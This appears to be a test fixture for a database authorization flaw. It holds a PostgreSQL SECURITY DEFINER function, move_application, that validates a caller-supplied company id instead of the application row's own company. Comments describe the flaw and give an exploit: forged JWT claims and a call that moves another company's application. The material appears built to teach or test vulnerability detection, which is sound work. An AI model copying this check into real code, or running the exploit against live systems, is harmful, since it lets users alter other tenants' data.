-- A recruiter moves applications of others: the function checks the company that the caller names, not the
-- row's.
-- about: move_application, applications
-- as: hf_hiring_app
-- exploit: SET request.jwt.claims = '{"sub":"a1000000-0000-4000-8000-000000000001"}';
-- exploit: SELECT 'now ' || move_application('a0000000-0000-4000-8000-00000000000a',
-- exploit:   'b4000000-0000-4000-8000-000000000001', 'rejected');
-- shows: now rejected
-- The board drags an application to its next stage; interviewers must not.
CREATE FUNCTION move_application(p_company uuid, p_application uuid, p_stage text) RETURNS text
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
DECLARE result text;
BEGIN
  IF NOT p_company = ANY (my_companies('{admin,recruiter}')) THEN
    RAISE EXCEPTION 'not allowed';
  END IF;
  UPDATE applications SET stage = p_stage WHERE id = p_application RETURNING stage INTO result;
  RETURN result;
END $$;
